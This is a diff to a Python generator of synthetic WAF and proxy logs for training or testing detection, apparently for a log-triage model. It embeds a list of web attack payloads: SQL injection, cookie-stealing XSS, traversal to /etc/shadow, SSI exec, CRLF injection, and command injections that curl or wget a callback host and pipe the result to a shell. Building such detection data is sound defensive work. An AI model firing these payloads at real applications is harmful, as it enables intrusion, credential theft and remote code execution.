@@ -564,6 +564,100 @@ def benign_web(rng: random.Random) -> Scenario:
     return Scenario("benign_web", "/var/log/nginx/access.log", lines, "benign", "info", [], what, ["No action needed."])
 
 
+# ---- scenarios: raw HTTP requests (WAF/proxy dumps: request line, headers, body) -------------------
+
+# (path, its parameters) of ordinary application forms; values are drawn from FORM_VALUES
+FORMS = (("/app/login.jsp", ("user", "pwd", "remember")), ("/shop/cart/add", ("id", "qty", "sku")),
+         ("/account/register", ("login", "password", "name", "email", "city", "zip")),
+         ("/search", ("q", "page", "sort")), ("/profile/update", ("name", "address", "phone", "bio")),
+         ("/api/orders", ("order", "price", "currency")), ("/files/view", ("file", "lang")))
+FORM_VALUES = ("anna", "kchen", "on", "off", "12", "3", "7730", "EUR", "price_asc", "report-2025.pdf", "en", "es",
+               "Maria+L%F3pez", "Rue+de+la+Paix+12%2C+3B", "j.doe%40example.org", "hiking+boots", "%2B34+600+123+456",
+               "O%27Connor", "Stra%DFe+17", "50%25+off", "size%3A+42", "caf%E9", "S3cr3t%21pass", "Valencia")
+# Attack classes as a scanner or a person sends them; {ip} = a callback address. Kept generic (OWASP classes),
+# written raw and URL-encoded at random, placed in one parameter (alone or after an ordinary value).
+RAW_PAYLOADS = {
+    "sqli": ("high", ["T1190"], "SQL injection", ("' OR '1'='1", "1' UNION SELECT username,password FROM users-- -",
+             "admin'--", "1 AND SLEEP(5)", "' OR 1=1#", "1;DROP TABLE users", "\") OR (\"1\"=\"1", "x' AND 1=CONVERT(int,@@version)--")),
+    "xss": ("medium", ["T1189"], "cross-site scripting", ("<script>alert(1)</script>", "<SCRIPT>alert(document.cookie);</SCRIPT>",
+            "\"><img src=x onerror=alert(1)>", "<svg/onload=confirm(1)>", "javascript:alert('x')",
+            "\" style=\"background:url(javascript:alert(1))", "<iframe src=javascript:alert(2)>")),
+    "traversal": ("high", ["T1190", "T1083"], "path traversal", ("../../../../etc/passwd", "..%2f..%2f..%2fetc%2fshadow",
+                  "....//....//etc/hosts", "..\\..\\..\\windows\\win.ini", "/etc/passwd%00.jpg")),
+    "cmdi": ("high", ["T1190", "T1059.004"], "OS command injection", (";cat /etc/passwd", "|id", "`wget http://{ip}/s`",
+             "$(curl http://{ip}/x|sh)", "&& dir c:\\", "; ls -la /")),
+    "ssi": ("high", ["T1190"], "server-side include injection", ("<!--#exec cmd=\"ls /\"-->", "<!--#include virtual=\"/etc/passwd\"-->",
+            "<!--#EXEC cmd=\"dir\"-->")),
+    "crlf": ("medium", ["T1190"], "CRLF / header injection", ("%0d%0aSet-Cookie:%20session=1337", "%0D%0ALocation:%20http://{ip}/",
+             "x%0d%0aContent-Length:%200")),
+}
+REQUEST_HEADERS = (("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"), ("Accept-Language", "en-US,en;q=0.5"),
+                   ("Accept-Encoding", "gzip, deflate"), ("Cache-Control", "no-cache"), ("Pragma", "no-cache"),
+                   ("Connection", "close"), ("Upgrade-Insecure-Requests", "1"))
+
+
+def _encode(rng: random.Random, value: str) -> str:
+    from urllib.parse import quote_plus
+
+    return rng.choice((value.replace(" ", "+"), quote_plus(value, safe="/"), quote_plus(value, safe="")))
+
+
+def raw_request(rng: random.Random, site: str, path: str, params: str, ua: str) -> list[str]:
+    """One raw HTTP request as a WAF or proxy dumps it: request line, headers, blank line, body for a POST."""
+    method = rng.choice(("GET", "POST", "POST"))
+    target = f"http://{site}{path}" if rng.random() < 0.5 else path
+    lines = [f"{method} {target}{'?' + params if method == 'GET' else ''} HTTP/1.1", f"Host: {site}", f"User-Agent: {ua}"]
+    lines += [f"{name}: {value}" for name, value in rng.sample(REQUEST_HEADERS, rng.randint(2, len(REQUEST_HEADERS)))]
+    lines.append(f"Cookie: JSESSIONID={rng.getrandbits(128):032X}")
+    if method == "POST":
+        lines += ["Content-Type: application/x-www-form-urlencoded", f"Content-Length: {len(params)}", "", params]
+    return lines + [""]
+
+
+def _form(rng: random.Random, payload: str | None = None) -> tuple[str, str]:
+    path, names = rng.choice(FORMS)
+    values = [rng.choice(FORM_VALUES) for _ in names]
+    if payload is not None:
+        i = rng.randrange(len(names))
+        values[i] = (values[i] if rng.random() < 0.4 else "") + payload
+    return path, "&".join(f"{n}={v}" for n, v in zip(names, values))
+
+
+def raw_http_attack(rng: random.Random) -> Scenario:
+    """A few attack requests of one class among ordinary form posts and page loads, in raw request form."""
+    site, ip = rng.choice(SITES), public_ip(rng)
+    kind = rng.choice(sorted(RAW_PAYLOADS))
+    risk, techniques, label, payloads = RAW_PAYLOADS[kind]
+    ua = rng.choice(BROWSERS)
+    lines: list[str] = []
+    n = rng.randint(1, 6)
+    for i in range(n):
+        for _ in range(rng.randint(1, 4)):
+            lines += [Noise(line) for line in raw_request(rng, site, *_form(rng), rng.choice(BROWSERS))]
+        payload = _encode(rng, rng.choice(payloads).format(ip=public_ip(rng)))
+        # the incident's evidence is where the payload sits (request line or body); its headers are routine
+        lines += [line if payload in line else Noise(line) for line in raw_request(rng, site, *_form(rng, payload), ua)]
+    what = f"{n} {label} attempt(s) in request parameters against {site}"
+    advice = [f"Find where {site} echoes or executes the tampered parameter, patch it and add a WAF rule for {label}",
+              f"Check the application's responses to these {label} requests and block the client behind them"]
+    return Scenario(f"raw_http_{kind}", "/var/log/waf/requests.log", lines, "web_attack", risk, techniques, what, advice)
+
+
+def benign_raw_http(rng: random.Random) -> Scenario:
+    """Ordinary form posts and page loads in raw request form, values with quotes, encodings and odd shapes."""
+    site = rng.choice(SITES)
+    lines: list[str] = []
+    for _ in range(rng.randint(4, 14)):
+        if rng.random() < 0.3:
+            path, name, values = rng.choice(ODD_BENIGN_PARAMS)
+            form = (path, f"{name}={rng.choice(values)}")
+        else:
+            form = _form(rng)
+        lines += raw_request(rng, site, *form, rng.choice(BROWSERS))
+    what = "ordinary form posts and page loads whose values contain quotes, accents and encodings"
+    return Scenario("benign_raw_http", "/var/log/waf/requests.log", lines, "benign", "info", [], what, ["No action needed."])
+
+
 def apache_probe_errors(rng: random.Random) -> Scenario:
     clock, ip = Clock(rng), public_ip(rng)
     n = rng.randint(8, 40)
@@ -1045,7 +1139,7 @@ GENERATORS: dict[str, Callable[[random.Random], Scenario]] = {
         ssh_bruteforce, ssh_spray, ssh_root_login, sudo_abuse, backdoor_account, sftp_exfil, benign_sftp,
         kernel_trouble, cron_dropper,
         firewall_scan, benign_syslog, web_attack, web_scanner, web_credential_stuffing, web_exfil, benign_web,
-        benign_web_params,
+        benign_web_params, raw_http_attack, benign_raw_http,
         win_logon_failures, win_persistence, win_malware, win_log_cleared, benign_windows,
         apache_probe_errors, benign_apache_errors, cloud_attack, cloud_incident_day, benign_cloud, cloud_s3_exfil,
         benign_s3_reads, cloud_internal_bulk_read,
@@ -1053,6 +1147,7 @@ GENERATORS: dict[str, Callable[[random.Random], Scenario]] = {
 }
 # Benign windows are the majority in real logs and where a naive model over-alerts: weight them up.
 WEIGHTS = {name: (3 if name.startswith("benign") else 1) for name in GENERATORS}
+WEIGHTS["raw_http_attack"] = 3  # one generator for six attack classes in a format no other generator writes
 
 
 def draw(rng: random.Random) -> Scenario:
